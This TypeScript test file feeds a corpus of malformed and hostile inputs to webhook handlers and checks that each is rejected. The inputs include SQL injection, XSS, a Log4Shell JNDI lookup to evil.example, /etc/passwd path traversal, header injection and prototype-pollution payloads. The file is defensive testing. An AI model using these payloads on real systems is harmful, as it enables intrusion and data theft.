import { afterEach, describe, expect, test } from 'vitest';
import { CS_CANONICAL_VALIDATORS, CS_DIALECTS } from '../../lambdas/cs/inbound/routes';
import { InMemorySapReadBackQueue } from '../../lambdas/erp/inbound/read-back-queue';
import { ERP_CANONICAL_VALIDATORS, erpDialects } from '../../lambdas/erp/inbound/routes';
import { FLEET_CANONICAL_VALIDATORS, FLEET_DIALECTS } from '../../lambdas/fleet/inbound/routes';
import { canonicalSubmission, cloudEvent, erpOrder, samsaraDeparture, samsaraTemperatureAlert, zendeskEvent } from './fixtures/payloads';
import { apiEvent, harness, json, lsyncHeaders, NOW_SECONDS, samsaraHeaders, SECRETS, zendeskHeaders, type Harness } from './support';

/**
 * The bad-input corpus: every case goes through the real handler (signature verified where the case is about
 * the body, so the body is what fails), answers 4xx with a JSON error, and publishes nothing.
 */

const MAX = 4096;
type Sign = (body: Buffer) => Record<string, string | string[]>;

interface Route {
  name: string;
  path: string;
  make: () => Harness;
  valid: () => Record<string, unknown>;
  sign: Sign;
}

const noOrders = new InMemorySapReadBackQueue();
const routes: Route[] = [
  {
    name: 'samsara',
    path: '/webhooks/fleet/samsara',
    make: () => harness('fleet', FLEET_DIALECTS, FLEET_CANONICAL_VALIDATORS, MAX * 2),
    valid: () => samsaraDeparture(),
    sign: (body) => samsaraHeaders(body),
  },
  {
    name: 'zendesk',
    path: '/webhooks/cs/zendesk',
    make: () => harness('cs', CS_DIALECTS, CS_CANONICAL_VALIDATORS, MAX * 2),
    valid: () => zendeskEvent('ticket.priority_changed', { current: 'URGENT', previous: 'HIGH' }),
    sign: (body) => zendeskHeaders(body),
  },
  {
    name: 'cloudevents',
    path: '/webhooks/erp/cloudevents',
    make: () => harness('erp', erpDialects(noOrders), ERP_CANONICAL_VALIDATORS, MAX * 2),
    valid: () => cloudEvent('com.example.erp.invoice.posted.v1', { invoiceId: 'INV-1', orderId: 'SO-1', currency: 'EUR', netAmount: '1.00', grossAmount: '1.19' }),
    sign: (body) => lsyncHeaders(body, SECRETS.cloudevents, NOW_SECONDS, 'application/cloudevents+json'),
  },
  {
    name: 'canonical',
    path: '/webhooks/fleet/canonical',
    make: () => harness('fleet', FLEET_DIALECTS, FLEET_CANONICAL_VALIDATORS, MAX * 2),
    valid: () => canonicalSubmission(),
    sign: (body) => lsyncHeaders(body, SECRETS.canonical),
  },
];

interface Case {
  name: string;
  /** Body and headers for this route. */
  build: (route: Route) => { body: Buffer; headers: Record<string, string | string[]> };
  status: number;
  error: string;
  field?: string | RegExp;
  /** Routes on which this input is valid (CloudEvents 1.0.2 allows any non-empty id; see the test below). */
  validOn?: readonly string[];
}

const signed = (route: Route, body: Buffer | string) => {
  const bytes = Buffer.isBuffer(body) ? body : Buffer.from(body);
  return { body: bytes, headers: route.sign(bytes) };
};
const withValid = (route: Route, change: (payload: Record<string, unknown>) => void) => {
  const payload = route.valid();
  change(payload);
  return signed(route, JSON.stringify(payload));
};
/** The id field of each route's payload (where injection-looking ids go). */
const idField: Record<string, string> = { samsara: 'eventId', zendesk: 'id', cloudevents: 'id', canonical: 'eventId' };

const corpus: Case[] = [
  { name: 'malformed JSON', build: (r) => signed(r, '{"eventId": "x", '), status: 400, error: 'invalid-request', field: 'body' },
  { name: 'JSON with a trailing comma', build: (r) => signed(r, '{"a":1,}'), status: 400, error: 'invalid-request', field: 'body' },
  { name: 'a JSON array instead of an object', build: (r) => signed(r, '[]'), status: 400, error: 'invalid-request', field: '(root)' },
  { name: 'a JSON string instead of an object', build: (r) => signed(r, '"hello"'), status: 400, error: 'invalid-request', field: '(root)' },
  { name: 'JSON null', build: (r) => signed(r, 'null'), status: 400, error: 'invalid-request', field: '(root)' },
  { name: 'empty body', build: (r) => signed(r, ''), status: 400, error: 'invalid-request', field: 'body' },
  {
    name: 'wrong content type (text/plain)',
    build: (r) => {
      const s = signed(r, JSON.stringify(r.valid()));
      return { body: s.body, headers: { ...s.headers, 'Content-Type': 'text/plain' } };
    },
    status: 415,
    error: 'unsupported-media-type',
  },
  {
    name: 'form-encoded content type',
    build: (r) => {
      const s = signed(r, JSON.stringify(r.valid()));
      return { body: s.body, headers: { ...s.headers, 'Content-Type': 'application/x-www-form-urlencoded' } };
    },
    status: 415,
    error: 'unsupported-media-type',
  },
  {
    name: 'a non-UTF-8 charset',
    build: (r) => {
      const s = signed(r, JSON.stringify(r.valid()));
      return { body: s.body, headers: { ...s.headers, 'Content-Type': 'application/json; charset=iso-8859-1' } };
    },
    status: 415,
    error: 'unsupported-media-type',
  },
  {
    name: 'no content type',
    build: (r) => {
      const s = signed(r, JSON.stringify(r.valid()));
      const headers = Object.fromEntries(Object.entries(s.headers).filter(([k]) => k.toLowerCase() !== 'content-type'));
      return { body: s.body, headers };
    },
    status: 415,
    error: 'unsupported-media-type',
  },
  {
    name: 'oversized body (refused before the signature is even looked at)',
    build: () => ({ body: Buffer.from(`{"pad":"${'x'.repeat(MAX * 2)}"}`), headers: { 'Content-Type': 'application/json' } }),
    status: 413,
    error: 'payload-too-large',
  },
  {
    name: 'oversized declared Content-Length',
    build: (r) => {
      const s = signed(r, JSON.stringify(r.valid()));
      return { body: s.body, headers: { ...s.headers, 'Content-Length': String(MAX * 100) } };
    },
    status: 413,
    error: 'payload-too-large',
  },
  {
    name: 'deeply nested JSON',
    build: (r) => signed(r, `{"data":${'['.repeat(2000)}${']'.repeat(2000)}}`),
    status: 400,
    error: 'invalid-request',
    field: 'body',
  },
  {
    name: 'wrong type for the event id',
    build: (r) => withValid(r, (p) => (p[idField[r.name]] = 12345)),
    status: 400,
    error: 'invalid-request',
    field: /^(eventId|id)$/,
  },
  {
    name: 'wrong type for a nested field',
    build: (r) =>
      withValid(r, (p) => {
        if (r.name === 'samsara') (p.data as { route: { stops: unknown } }).route.stops = 'all of them';
        else if (r.name === 'zendesk') (p.detail as { id: unknown }).id = 38211;
        else if (r.name === 'cloudevents') (p.data as { netAmount: unknown }).netAmount = 1.0;
        else (p.data as { stopKind: unknown }).stopKind = 3;
      }),
    status: 400,
    error: 'invalid-request',
    field: /^(data\.route\.stops|detail\.id|data\.netAmount|data\.stopKind)$/,
  },
  {
    name: 'a required field missing',
    build: (r) => withValid(r, (p) => delete p[idField[r.name]]),
    status: 400,
    error: 'invalid-request',
    field: /^(eventId|id)$/,
  },
  { name: 'a byte-order mark before the JSON', build: (r) => signed(r, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(JSON.stringify(r.valid()))])), status: 400, error: 'invalid-request', field: 'body' },
  { name: 'invalid UTF-8 bytes', build: (r) => signed(r, Buffer.concat([Buffer.from('{"x":"'), Buffer.from([0xc3, 0x28]), Buffer.from('"}')])), status: 400, error: 'invalid-request', field: 'body' },
  { name: 'a lone surrogate in the event id', build: (r) => withValid(r, (p) => (p[idField[r.name]] = 'evt-\ud800')), status: 400, error: 'invalid-request', field: /^(eventId|id)$/ },
  { name: 'a NUL character in the event id', build: (r) => withValid(r, (p) => (p[idField[r.name]] = 'evt\u0000-1')), status: 400, error: 'invalid-request', field: /^(eventId|id)$/ },
  { name: 'a zero-width space in the event id', build: (r) => withValid(r, (p) => (p[idField[r.name]] = 'evt\u200b-1')), status: 400, error: 'invalid-request', field: /^(eventId|id)$/ },
  { name: 'a right-to-left override in the event id', build: (r) => withValid(r, (p) => (p[idField[r.name]] = 'evt-\u202e1-txe')), status: 400, error: 'invalid-request', field: /^(eventId|id)$/ },
  ...["'; DROP TABLE shipments;--", '<script>alert(1)</script>', '${jndi:ldap://evil.example/a}', '../../etc/passwd', '{{7*7}}', 'evt-1\r\nX-Injected: 1'].map(
    (id): Case => ({
      name: `an injection-looking id: ${JSON.stringify(id)}`,
      build: (r) => withValid(r, (p) => (p[idField[r.name]] = id)),
      status: 400,
      // Printable ASCII: a CloudEvent id may be any non-empty string, and such an id is carried, never interpreted.
      validOn: /^[\x21-\x7E]+$/.test(id) ? ['cloudevents'] : [],
      error: 'invalid-request',
      field: /^(eventId|id)$/,
    }),
  ),
  {
    name: 'an injection-looking business reference',
    build: (r) =>
      withValid(r, (p) => {
        if (r.name === 'samsara') {
          const route = (p.data as { route: { externalIds: Record<string, string>; stops: { externalIds: Record<string, string> }[] } }).route;
          route.externalIds['logisticsSync.shipment'] = "SO-1001~SHP' OR '1'='1";
          route.stops.forEach((s, i) => (s.externalIds['logisticsSync.stop'] = `SO-1001~SHP' OR '1'='1~${i + 1}`));
        }
        else if (r.name === 'zendesk') (p.detail as Record<string, unknown>).id = '38211 OR 1=1';
        else if (r.name === 'cloudevents') (p.data as Record<string, unknown>).orderId = '${jndi:ldap://x}';
        else (p.refs as Record<string, unknown>).shipmentId = '../../etc/passwd';
      }),
    status: 400,
    error: 'invalid-request',
    field: /^(refs\.shipmentId|detail\.id|data\.orderId)$/,
  },
  { name: 'a __proto__ key at the top level', build: (r) => signed(r, JSON.stringify(r.valid()).replace(/^\{/, '{"__proto__":{"polluted":true},')), status: 400, error: 'invalid-request', field: 'body' },
  { name: 'a __proto__ key written with escapes', build: (r) => signed(r, JSON.stringify(r.valid()).replace(/^\{/, '{"\\u005f_proto__":{"polluted":true},')), status: 400, error: 'invalid-request', field: 'body' },
  { name: 'a constructor.prototype key nested deep', build: (r) => signed(r, JSON.stringify(r.valid()).replace(/^\{/, '{"x":{"constructor":{"prototype":{"polluted":true}}},')), status: 400, error: 'invalid-request', field: 'body' },
  {
    name: 'a number too large for a double',
    build: (r) => {
      // JSON can spell a number no double holds; JSON.parse turns it into Infinity.
      if (r.name === 'samsara') return signed(r, JSON.stringify(samsaraTemperatureAlert()).replace('"orgId":20936', '"orgId":1e400'));
      const payload = r.valid();
      payload[idField[r.name]] = 0;
      return signed(r, JSON.stringify(payload).replace(`"${idField[r.name]}":0`, `"${idField[r.name]}":1e400`));
    },
    status: 400,
    error: 'invalid-request',
  },
  {
    name: 'a stale signature (replayed 10 minutes later)',
    build: (r) => {
      const body = Buffer.from(JSON.stringify(r.valid()));
      if (r.name === 'samsara') return { body, headers: samsaraHeaders(body, NOW_SECONDS - 600) };
      if (r.name === 'zendesk') return { body, headers: zendeskHeaders(body, new Date((NOW_SECONDS - 600) * 1000).toISOString()) };
      if (r.name === 'cloudevents') return { body, headers: lsyncHeaders(body, SECRETS.cloudevents, NOW_SECONDS - 600, 'application/cloudevents+json') };
      return { body, headers: lsyncHeaders(body, SECRETS.canonical, NOW_SECONDS - 600) };
    },
    status: 401,
    error: 'invalid-signature',
  },
  {
    name: 'a signature from the future',
    build: (r) => {
      const body = Buffer.from(JSON.stringify(r.valid()));
      if (r.name === 'samsara') return { body, headers: samsaraHeaders(body, NOW_SECONDS + 600) };
      if (r.name === 'zendesk') return { body, headers: zendeskHeaders(body, new Date((NOW_SECONDS + 600) * 1000).toISOString()) };
      if (r.name === 'cloudevents') return { body, headers: lsyncHeaders(body, SECRETS.cloudevents, NOW_SECONDS + 600, 'application/cloudevents+json') };
      return { body, headers: lsyncHeaders(body, SECRETS.canonical, NOW_SECONDS + 600) };
    },
    status: 401,
    error: 'invalid-signature',
  },
  {
    name: 'a tampered body',
    build: (r) => {
      const s = signed(r, JSON.stringify(r.valid()));
      return { body: Buffer.from(s.body.toString().replace('SO-1001', 'SO-1002').replace('SHP-1001-01', 'SHP-1001-02').replace('SO-1', 'SO-9')), headers: s.headers };
    },
    status: 401,
    error: 'invalid-signature',
  },
  {
    name: 'the signature signed with the wrong key',
    build: (r) => {
      const body = Buffer.from(JSON.stringify(r.valid()));
      if (r.name === 'samsara') return { body, headers: samsaraHeaders(body, NOW_SECONDS, Buffer.from('x'.repeat(32)).toString('base64')) };
      if (r.name === 'zendesk') return { body, headers: zendeskHeaders(body, undefined, 'wrong') };
      // The canonical secret on the CloudEvents route (and vice versa) is a wrong key too.
      if (r.name === 'cloudevents') return { body, headers: lsyncHeaders(body, SECRETS.canonical, NOW_SECONDS, 'application/cloudevents+json') };
      return { body, headers: lsyncHeaders(body, SECRETS.cloudevents) };
    },
    status: 401,
    error: 'invalid-signature',
  },
  {
    name: 'signature headers missing',
    build: (r) => {
      const s = signed(r, JSON.stringify(r.valid()));
      return { body: s.body, headers: Object.fromEntries(Object.entries(s.headers).filter(([k]) => !/signature/i.test(k))) };
    },
    status: 401,
    error: 'invalid-signature',
  },
  {
    name: 'a signature header sent twice',
    build: (r) => {
      const s = signed(r, JSON.stringify(r.valid()));
      const headers = Object.fromEntries(Object.entries(s.headers).map(([k, v]) => [k, /signature$/i.test(k) ? [v as string, v as string] : v]));
      return { body: s.body, headers };
    },
    status: 401,
    error: 'invalid-signature',
  },
];

describe.each(routes)('bad input on $path', (route) => {
  afterEach(() => {
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  test('the valid payload itself is accepted (control)', async () => {
    const h = route.make();
    const { body, headers } = signed(route, JSON.stringify(route.valid()));
    const response = await h.handler(apiEvent(route.path, body, headers));
    expect(response.statusCode, response.body).toBe(202);
  });

  test.each(corpus.filter((c) => !c.validOn?.includes(route.name)))('$name → $status', async (c) => {
    const h = route.make();
    const { body, headers } = c.build(route);
    const response = await h.handler(apiEvent(route.path, body, headers));
    expect(response.statusCode, response.body).toBe(c.status);
    const error = json(response);
    expect(error.error).toBe(c.error);
    expect(typeof error.message).toBe('string');
    expect((error.message as string).length).toBeGreaterThan(0);
    if (c.field instanceof RegExp) expect(error.field).toMatch(c.field);
    else if (c.field) expect(error.field).toBe(c.field);
    expect(h.publisher.published).toEqual([]);
    expect(h.metrics.last?.metrics).toEqual({ WebhookRejected: 1 });
  });
});

describe('CloudEvents 1.0.2: an id is any non-empty string', () => {
  test.each(corpus.filter((c) => c.validOn?.includes('cloudevents')))('$name is accepted on /webhooks/erp/cloudevents and carried as the vendor event id', async (c) => {
    const route = routes.find((r) => r.name === 'cloudevents')!;
    const h = route.make();
    const { body, headers } = c.build(route);
    const response = await h.handler(apiEvent(route.path, body, headers));
    expect(response.statusCode, response.body).toBe(202);
    const id = (JSON.parse(body.toString('utf8')) as { id: string }).id;
    expect(h.publisher.published[0].metadata.source.eventId).toBe(id);
  });
});

describe('unicode that is legitimate is accepted', () => {
  test('names with accents, CJK and emoji pass through a Samsara webhook', async () => {
    const h = harness('fleet', FLEET_DIALECTS, FLEET_CANONICAL_VALIDATORS);
    const payload = samsaraDeparture();
    const stops = payload.data.route.stops as { address: { name: string } }[];
    stops[0].address.name = 'Centraal DC Rötterdam — 冷蔵 🚚';
    const body = Buffer.from(JSON.stringify(payload));
    const response = await h.handler(apiEvent('/webhooks/fleet/samsara', body, samsaraHeaders(body)));
    expect(response.statusCode, response.body).toBe(202);
    expect((h.publisher.published[0].data as { location: { name: string } }).location.name).toBe('Centraal DC Rötterdam — 冷蔵 🚚');
  });

  test('an ERP order with non-ASCII addresses passes through a CloudEvent', async () => {
    const h = harness('erp', erpDialects(noOrders), ERP_CANONICAL_VALIDATORS);
    const order = erpOrder();
    order.shipTo.address.city = 'Zürich';
    const body = Buffer.from(JSON.stringify(cloudEvent('com.example.erp.order.released.v1', order)));
    const response = await h.handler(apiEvent('/webhooks/erp/cloudevents', body, lsyncHeaders(body, SECRETS.cloudevents, NOW_SECONDS, 'application/cloudevents+json')));
    expect(response.statusCode, response.body).toBe(202);
  });
});
